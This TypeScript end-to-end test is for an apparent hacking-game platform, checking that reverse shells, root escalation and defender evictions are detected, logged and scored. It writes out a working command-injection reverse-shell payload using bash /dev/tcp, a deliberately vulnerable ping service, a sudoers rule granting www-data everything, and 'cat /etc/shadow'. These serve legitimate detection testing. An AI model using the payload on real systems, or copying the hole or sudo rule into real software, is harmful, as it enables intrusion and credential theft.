import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { promisify } from 'node:util';
import { expect } from 'chai';
import { createVerifiedAccount } from '../support/accounts.ts';
import { ClientNamespace, ShellListener, boxHostProblem } from '../support/netns.ts';
import { freePort, repoRoot, startPlatform, type RunningPlatform } from '../support/platform.ts';

const run = promisify(execFile);

interface Player {
  handle: string;
  id: string;
  token: string;
  computer: ClientNamespace;
  box: { id: string; ip: string; password: string };
  vpnAddress: string;
}

interface AttackEvent {
  type: string;
  details: { message: string; user?: string; uid?: number; cwd?: string; peer?: string };
}

interface CommandLog {
  timestamp: string;
  user: string;
  cwd: string;
  command: string;
}

interface Attack {
  id: string;
  outcome: string;
}

/**
 * Attacks for real, without flags, on the local runtime as `make run` starts it: four players
 * with real boxes and stock OpenVPN clients on their own "computers" (network namespaces).
 * A defender runs a service with a command injection as www-data (and, for one of them, a
 * careless sudo rule); the attacker exploits it for a reverse shell to a listener on their
 * computer, as they would with `nc -lvnp`. The box's agent (snoopy + /proc) must tell the
 * platform, which classifies and settles the attack.
 */
describe('attacks on real boxes: reverse shells, root, kill chains, settlement', function () {
  this.timeout(240_000);
  const tag = randomBytes(2).toString('hex');
  const prefix = `ega${tag.slice(0, 3)}`;
  const octet = 100 + (parseInt(tag, 16) % 100);
  /** Short enough to see the time limit settle attacks in a test; long enough to act. */
  const LIMIT_SECONDS = 36;
  let env: Record<string, string>;
  let platform: RunningPlatform;
  let dataDir: string | undefined;
  const computers = ['alice', 'bob', 'carol', 'dave'].map(
    (name, i) => new ClientNamespace(`${prefix}-${name}`, `${prefix}-c${i}`, `172.30.${octet}`, 4 * (i + 1)),
  );
  const listeners: ShellListener[] = [];
  let alice: Player;
  let bob: Player;
  let carol: Player;
  let dave: Player;

  before(async function () {
    this.timeout(300_000);
    const problem = await boxHostProblem();
    if (problem) {
      if (process.env.REQUIRE_BOX_RUNTIME === '1') throw new Error(problem);
      console.warn(`\n  SKIPPED: attacks end to end need a host that can run boxes: ${problem}\n`);
      this.skip();
    }
    const vpnPort = await freePort();
    env = {
      // The same address after the API restarts (the players' tokens name it).
      PORT: String(await freePort()),
      ORCHESTRATOR: 'local',
      BOX_PREFIX: prefix,
      BOX_IMAGE_DIR: path.join(
        process.env.XDG_CACHE_HOME ?? path.join(os.homedir(), '.cache'),
        'exploit-grid/images',
      ),
      ARENA_SUBNET: `10.${octet}.0.0/16`,
      TRANSIT_SUBNET: `172.30.${octet}.0/30`,
      VPN_UDP_SUBNET: `10.${octet + 1}.0.0/16`,
      VPN_TCP_SUBNET: `10.${octet + 2}.0.0/16`,
      // Fixed, so the VPN is where the clients are after the API restarts.
      VPN_UDP_PORT: String(vpnPort),
      VPN_TCP_PORT: String(vpnPort),
      VPN_PUBLIC_HOST: `172.30.${octet}.5`,
      BOX_TICK_MS: '500',
      ATTACK_TIME_LIMIT_MINUTES: String(LIMIT_SECONDS / 60),
    };
    dataDir = await mkdtemp(path.join(os.tmpdir(), 'eg-e2e-attacks-'));
    platform = await startPlatform({ env, dataDir, timeoutMs: 120_000 });
    for (const computer of computers) await computer.create();
    [alice, bob, carol, dave] = await Promise.all(
      ['alice', 'bob', 'carol', 'dave'].map((name, i) => player(`${name}_${tag}`, computers[i]!)),
    );
  });

  after(async function () {
    this.timeout(120_000);
    for (const listener of listeners) listener.close();
    for (const computer of computers) await computer.destroy().catch(() => undefined);
    await platform?.stop();
    // Boxes outlive the API by design: take this test's runtime down as `make boxes-down --purge` does.
    if (dataDir)
      await run(process.execPath, [path.join(repoRoot, 'api/dist/boxes-down.js'), '--purge'], {
        env: { ...process.env, ...env, DATA_DIR: dataDir, LOG_FORMAT: 'json' },
      });
    if (dataDir) await rm(dataDir, { recursive: true, force: true });
  });

  async function call<T>(
    token: string,
    method: string,
    url: string,
    body?: unknown,
  ): Promise<{ status: number; body: T }> {
    const res = await fetch(`${platform.url}/api/v1${url}`, {
      method,
      headers: {
        authorization: `Bearer ${token}`,
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    const text = await res.text();
    return { status: res.status, body: (text ? JSON.parse(text) : null) as T };
  }

  async function until<T>(
    what: string,
    fn: () => Promise<T | null | undefined | false>,
    timeoutMs = 20_000,
  ): Promise<T> {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const value = await fn().catch(() => null);
      if (value) return value;
      if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
      await sleep(200);
    }
  }

  /** A verified player with a running box and a connected VPN client on their computer. */
  async function player(handle: string, computer: ClientNamespace): Promise<Player> {
    const account = await createVerifiedAccount(platform, {
      handle,
      email: `${handle}@example.test`,
      password: 'correct horse battery',
    });
    const token = account.accessToken;
    const created = await call<{ hostname: string }>(token, 'POST', '/boxes', {});
    expect(created.status).to.equal(201);
    await call(token, 'POST', `/boxes/${created.body.hostname}/power`, { on: true });
    const box = await until(
      `${handle}'s box RUNNING`,
      async () => {
        const my = (
          await call<{ id: string; ip: string; ssh_password: string; status: string }>(
            token,
            'GET',
            '/boxes/my',
          )
        ).body;
        return my.status === 'RUNNING' ? my : null;
      },
      150_000,
    );
    const config = (await call<{ ovpn_config: string }>(token, 'GET', `/user-vpn/${account.id}/UDP`)).body;
    const file = path.join(dataDir!, `${handle}.ovpn`);
    await writeFile(file, config.ovpn_config, { mode: 0o600 });
    await computer.connectVpn(file);
    return {
      handle,
      id: account.id,
      token,
      computer,
      box: { id: box.id, ip: box.ip, password: box.ssh_password },
      vpnAddress: await computer.tunAddress(),
    };
  }

  /**
   * The defender's mistake: a "ping" page that pastes its parameter into a shell, run by
   * systemd as www-data on port 8080 (and, with `sudo`, a rule that lets www-data do anything).
   */
  async function plantVulnerableService(defender: Player, options: { sudo?: boolean } = {}): Promise<void> {
    const service = `require('http').createServer((req, res) => {
      const host = new URL(req.url, 'http://box').searchParams.get('host') || '';
      require('child_process').spawn('sh', ['-c', 'ping -c 1 ' + host], { detached: true, stdio: 'ignore' }).unref();
      res.end('pinged\\n');
    }).listen(8080);`;
    await defender.computer.ssh(
      defender.box.ip,
      [
        'systemd-run --quiet --unit=pingsvc --uid=www-data -p WorkingDirectory=/tmp /usr/bin/node -e "$1"',
        options.sudo
          ? 'echo "www-data ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/ops && chmod 440 /etc/sudoers.d/ops'
          : 'true',
        'for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/8080) 2>/dev/null && exit 0; sleep 0.1; done; exit 1',
      ].join('\n'),
      { password: defender.box.password },
      [service],
    );
  }

  /** The attacker's exploit: a reverse shell from the target box to their own computer. */
  async function reverseShell(attacker: Player, target: Player, port: number): Promise<ShellListener> {
    const listener = await attacker.computer.listenForShell(port);
    listeners.push(listener);
    const payload = `;bash -c 'bash -i >& /dev/tcp/${attacker.vpnAddress}/${port} 0>&1'`;
    await attacker.computer.httpGet(`http://${target.box.ip}:8080/?host=${encodeURIComponent(payload)}`);
    await listener.connected;
    return listener;
  }

  const startAttack = async (attacker: Player, target: Player) => {
    const started = await call<{ attack: Attack }>(attacker.token, 'POST', `/attack/${target.box.id}`);
    expect(started.status, JSON.stringify(started.body)).to.equal(201);
    return started.body.attack;
  };
  const attackEvents = async (who: Player, attack: Attack) =>
    (await call<AttackEvent[]>(who.token, 'GET', `/attack/${attack.id}/attack-logs`)).body;
  const commandLogs = async (who: Player, attack: Attack) =>
    (await call<CommandLog[]>(who.token, 'GET', `/attack/${attack.id}/logs`)).body;
  const attackNow = async (who: Player, attack: Attack) =>
    (await call<Attack[]>(who.token, 'GET', '/attack/history/all?limit=20')).body.find(
      (a) => a.id === attack.id,
    )!;
  const mmr = async (who: Player) => (await call<{ mmr: number }>(who.token, 'GET', '/users/me')).body.mmr;

  it('a user reverse shell is a FOOTHOLD, root through sudo is OWNED; the kill chain is logged; the owner’s own shell is no event', async () => {
    await plantVulnerableService(bob, { sudo: true });
    // No attack, no way in.
    expect(await alice.computer.canConnect(bob.box.ip, 8080)).to.equal(false);
    const [aliceBefore, bobBefore] = [await mmr(alice), await mmr(bob)];

    const attack = await startAttack(alice, bob);
    const shell = await reverseShell(alice, bob, 4444);
    await until('the FOOTHOLD', async () =>
      (await attackEvents(alice, attack)).some((e) => e.type === 'FOOTHOLD'),
    );
    expect((await attackNow(alice, attack)).outcome).to.equal('PENDING');

    // The defender looks around in their own box meanwhile: never an attack event.
    await bob.computer.ssh(bob.box.ip, 'cd /root && ls >/dev/null && whoami >/dev/null', {
      password: bob.box.password,
    });

    expect(await shell.run('id; pwd'))
      .to.include('uid=33(www-data)')
      .and.include('/tmp');
    await shell.run('id; uname -a; cat /etc/shadow 2>/dev/null');
    const chain = await until('the commands in the kill chain', async () => {
      const logs = await commandLogs(alice, attack);
      return ['id', 'uname -a', 'cat /etc/shadow'].every((c) => logs.some((l) => l.command === c))
        ? logs
        : null;
    });
    const shadow = chain.find((l) => l.command === 'cat /etc/shadow')!;
    expect(shadow).to.include({ user: 'www-data', cwd: '/tmp' });
    expect(chain.map((l) => l.command)).to.not.include.members(['whoami', 'ls']);

    // Root.
    await shell.run('sudo -n id');
    await until('the attack OWNED', async () => (await attackNow(bob, attack)).outcome === 'OWNED');
    const events = await attackEvents(bob, attack);
    expect(events.filter((e) => e.type === 'FOOTHOLD')).to.have.length(1);
    expect(events.filter((e) => e.type === 'OWN')).to.have.length(1);
    const commands = events.filter((e) => e.type === 'COMMAND');
    expect(commands.every((e) => e.details.peer === alice.vpnAddress)).to.equal(true);
    // MMR moved once: the winner gained what the loser lost.
    const change = (await mmr(alice)) - aliceBefore;
    expect(change).to.be.greaterThan(0);
    expect(await mmr(bob)).to.equal(bobBefore - change);
    // Settled once: MMR stays where it is.
    await sleep(1500);
    expect(await mmr(alice)).to.equal(aliceBefore + change);
    // The two players only.
    expect((await call(carol.token, 'GET', `/attack/${attack.id}/logs`)).status).to.equal(404);
    expect((await call(carol.token, 'GET', `/attack/${attack.id}/attack-logs`)).status).to.equal(404);
    // The attack is over: the window is shut, the open shell included.
    await until('the window closed', async () => !(await alice.computer.canConnect(bob.box.ip, 8080)));
    const cut = await shell.run('id', 3000).then(
      () => false,
      () => true,
    );
    expect(cut, 'the reverse shell still answers after the attack ended').to.equal(true);
    shell.close();
  });

  it('loses no event while the API is down, and settles a held shell as FOOTHOLD at the time limit', async () => {
    await plantVulnerableService(dave);
    const attack = await startAttack(carol, dave);
    const shell = await reverseShell(carol, dave, 4445);
    await until('the FOOTHOLD', async () =>
      (await attackEvents(carol, attack)).some((e) => e.type === 'FOOTHOLD'),
    );

    // Commands that run on the box while the API (and with it the VPN relay) is down.
    shell.send('sleep 2; whoami; hostname; echo typed-while-down');
    const stoppedAt = Date.now();
    await platform.stop();
    await sleep(5000);
    platform = await startPlatform({ env, dataDir, timeoutMs: 120_000 });
    const logs = await until(
      'the commands run while the API was down',
      async () => {
        const all = await commandLogs(carol, attack);
        return ['whoami', 'hostname'].every((c) => all.some((l) => l.command === c)) ? all : null;
      },
      30_000,
    );
    const whoami = logs.find((l) => l.command === 'whoami')!;
    expect(new Date(whoami.timestamp).getTime()).to.be.within(stoppedAt, stoppedAt + 5000 + 10_000);
    expect(logs.filter((l) => l.command === 'whoami')).to.have.length(1);

    // The shell is still held at the limit.
    const settled = await until(
      'the time limit',
      async () => {
        const now = await attackNow(carol, attack);
        return now.outcome !== 'PENDING' ? now : null;
      },
      (LIMIT_SECONDS + 20) * 1000,
    );
    expect(settled.outcome).to.equal('FOOTHOLD');
    shell.close();
  });

  it('settles DEFENDED when the defender kills the shell, TIMEOUT when the attacker never got in', async () => {
    await plantVulnerableService(alice);
    const evicted = await startAttack(bob, alice);
    const idle = await startAttack(dave, carol);
    const shell = await reverseShell(bob, alice, 4446);
    await until('the FOOTHOLD', async () =>
      (await attackEvents(bob, evicted)).some((e) => e.type === 'FOOTHOLD'),
    );
    // The defender finds it and kills everything www-data runs.
    await alice.computer.ssh(alice.box.ip, 'pkill -KILL -u www-data; true', { password: alice.box.password });
    await shell.closed;
    await until(
      'the eviction',
      async () => (await attackEvents(alice, evicted)).some((e) => e.type === 'EVICTED'),
      20_000,
    );
    const before = {
      alice: await mmr(alice),
      bob: await mmr(bob),
      carol: await mmr(carol),
      dave: await mmr(dave),
    };
    const [defended, timedOut] = await Promise.all(
      [
        [bob, evicted],
        [dave, idle],
      ].map(([who, attack]) =>
        until(
          'the time limit',
          async () => {
            const now = await attackNow(who as Player, attack as Attack);
            return now.outcome !== 'PENDING' ? now : null;
          },
          (LIMIT_SECONDS + 20) * 1000,
        ),
      ),
    );
    expect(defended.outcome).to.equal('DEFENDED');
    expect(timedOut.outcome).to.equal('TIMEOUT');
    // The defenders won.
    expect(await mmr(alice)).to.be.greaterThan(before.alice);
    expect(await mmr(bob)).to.be.lessThan(before.bob);
    expect(await mmr(carol)).to.be.greaterThan(before.carol);
    expect(await mmr(dave)).to.be.lessThan(before.dave);
    expect(await attackEvents(carol, idle)).to.deep.equal([]);
  });
});
